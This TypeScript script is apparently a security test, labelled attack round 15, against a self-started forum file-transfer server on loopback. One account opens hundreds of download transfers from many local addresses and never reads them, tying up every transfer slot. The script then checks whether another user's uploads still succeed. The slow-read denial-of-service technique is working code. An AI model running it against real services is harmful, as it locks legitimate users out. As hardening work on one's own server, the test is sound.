/**
 * Attack round 15: one account takes every transfer slot of the server. Uploads are capped per user (4 at a
 * time), downloads are not: one logged-in account asks DWN of its own small file (one the kernel's buffers
 * take whole, so the download ends in its tail: held until the receiver closes or min(size, tcp_wmem max) at
 * 4 KiB/s, some 16 min) `hosts` × 16 times and opens each transfer from another loopback address, reading
 * nothing. Then another user, from an address of its own, tries an upload every `every` s.
 *
 *   npx tsx attack/one-account-slots.ts [hosts=32] [file KiB=3500] [seconds=120] [every=20] [server options…]
 */
import { execFileSync } from 'node:child_process';
import { setMaxListeners } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deriveTransferKeys, SecureTransferChannel, sessionExporter, type Reply } from '../packages/forum-protocol/dist/index.js';
import { session, startServer, upload, type Session } from './forum-raw.js';

const hosts = Number(process.argv[2] ?? 32);
const fileKiB = Number(process.argv[3] ?? 3500);
const seconds = Number(process.argv[4] ?? 120);
const every = Number(process.argv[5] ?? 20);
const extra = process.argv.slice(6);
const dir = await mkdtemp(join(tmpdir(), 'a15-slots-'));
const port = 40_000 + Math.floor(Math.random() * 20_000);
const server = await startServer(dir, port, port + 1, extra);
const abort = new AbortController();
setMaxListeners(0, abort.signal);

const attacker = await session(port, 'hog', abort.signal, '127.0.19.200');
await attacker.request('CRT', ['hogs']);
const up = await attacker.request('UPD', ['hogs', 'file.bin']);
if (!(await upload(attacker, up, Buffer.alloc(fileKiB * 1024, 0x62), abort.signal))) throw new Error('upload failed');

/** Opens the download `reply` names from `addr`, sends the token and reads nothing; resolves when the server answered its header or closed. */
const hold = (s: Session, reply: Reply, addr: string): Promise<string> =>
  new Promise((resolve) => {
    if (reply.data.kind !== 'transfer') return resolve(reply.lines.join('|'));
    const { port: tcp, token } = reply.data;
    const socket = net.connect({ host: '127.0.0.1', port: tcp, localAddress: addr });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve('closed'));
    socket.write(`${token}\n`);
    const ch = new SecureTransferChannel(socket, deriveTransferKeys(sessionExporter(s.conn), token), 'client');
    ch.on('error', () => undefined);
    // Paused under the channel (whose 'data' listener set it flowing): nothing read past what the kernel buffers.
    socket.pause();
    socket.once('connect', () => setTimeout(() => resolve(socket.destroyed ? 'closed' : 'held'), 200));
    abort.signal.addEventListener('abort', () => socket.destroy());
  });

const t0 = performance.now();
// 16 requests in flight at most: a connection that queues more than 32 is cut off.
const results: string[] = [];
for (let k = 0; k < hosts * 16; k += 16) {
  const batch = await Promise.all(
    Array.from({ length: 16 }, async (_, j) => {
      const g = await attacker.request('DWN', ['hogs', 'file.bin']);
      return { g, addr: `127.0.19.${((k + j) % hosts) + 1}` };
    }),
  );
  results.push(...(await Promise.all(batch.map(({ g, addr }) => hold(attacker, g, addr)))));
}
const held = results.filter((r) => r === 'held').length;
console.log(`one account: ${held} of ${hosts * 16} downloads held from ${hosts} addresses in ${((performance.now() - t0) / 1000).toFixed(1)} s (${results.filter((r) => r !== 'held').slice(0, 3).join(', ')})`);

const victim = await session(port, 'victim', abort.signal, '127.0.20.1');
await victim.request('CRT', ['mine']);
for (let t = 0, n = 0; t <= seconds; t += every, n++) {
  const g = await victim.request('UPD', ['mine', `v${n}.txt`]);
  const answer = await new Promise<string>((resolve) => {
    if (g.data.kind !== 'transfer') return resolve(g.lines.join('|'));
    const socket = net.connect({ host: '127.0.0.1', port: g.data.port, localAddress: '127.0.20.1' });
    let clear = '';
    socket.on('error', (e) => resolve(`error ${e.message}`));
    socket.on('data', (d: Buffer) => (clear += d.toString('latin1')));
    socket.on('close', () => resolve(clear.startsWith('ERR') ? clear.trim() : `closed after ${clear.length} bytes (sealed: accepted)`));
    socket.write(`${g.data.token}\n`);
    const ch = new SecureTransferChannel(socket, deriveTransferKeys(sessionExporter(victim.conn), g.data.token), 'client');
    ch.on('error', () => undefined);
    ch.write('5\n');
    ch.end(Buffer.from('hello'));
  });
  // The server's transfer connections from the attacker's addresses, and the bytes queued on them (ss).
  const ss = execFileSync('ss', ['-tnH', 'state', 'established', `( sport = :${port + 1} )`], { encoding: 'utf8' }).split('\n');
  const mine = ss.filter((l) => l.includes('127.0.19.'));
  const queued = mine.reduce((n, l) => n + Number(l.trim().split(/\s+/)[1] ?? 0), 0);
  console.log(`t=${((performance.now() - t0) / 1000).toFixed(0)} s: ${mine.length} transfer connections of the attacker open, ${(queued / 1024 / 1024).toFixed(0)} MiB queued to them; another user's upload from another address: ${answer}`);
  if (t + every <= seconds) await new Promise((r) => setTimeout(r, every * 1000));
}
abort.abort();
server.child.kill('SIGTERM');
await server.exited;
await rm(dir, { recursive: true, force: true });
